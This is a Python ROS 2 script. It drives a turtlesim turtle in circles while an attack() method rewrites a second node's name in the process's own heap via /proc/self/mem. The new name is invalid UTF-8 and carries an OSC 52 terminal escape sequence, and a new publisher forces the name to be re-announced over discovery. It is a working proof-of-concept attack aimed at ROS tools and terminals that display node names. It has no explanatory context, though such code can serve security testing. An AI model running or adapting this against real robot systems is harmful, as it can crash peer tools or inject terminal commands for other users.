"""A second node has a name that is not valid UTF-8, because the node overwrites the name in its own memory."""

import re

import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node
from std_msgs.msg import String

VALID = b"a_name_that_is_long_enough_to_be_on_the_heap"
INVALID = b"\xff\xfe\x1b]52;c;\x07\n".ljust(len(VALID), b"\xe9")


class DrawCircle(Node):
    def __init__(self):
        super().__init__("draw_circle")
        self.publisher = self.create_publisher(Twist, "/turtle1/cmd_vel", 10)
        self.timer = self.create_timer(0.5, self.drive)
        self.attack()

    def drive(self):
        msg = Twist()
        msg.linear.x = 2.0
        msg.angular.z = 1.0
        self.publisher.publish(msg)

    def attack(self):
        self.other = Node(VALID.decode(), enable_rosout=False, start_parameter_services=False)
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            for first, last in writable():
                memory.seek(first)
                for found in re.finditer(VALID, memory.read(last - first)):
                    memory.seek(first + found.start())
                    memory.write(INVALID)
        # Another endpoint of this participant makes it announce the names of its nodes again.
        self.wrong = self.create_publisher(String, "/another", 10)


def writable():
    """Yield the parts of the heap."""
    with open("/proc/self/maps") as maps:
        for line in maps:
            area, mode, _, _, _, *name = line.split()
            if mode.startswith("rw") and name in ([], ["[heap]"]):
                yield [int(each, 16) for each in area.split("-")]


def main(args=None):
    rclpy.init(args=args)
    node = DrawCircle()
    try:
        rclpy.spin(node)
    except KeyboardInterrupt:
        pass
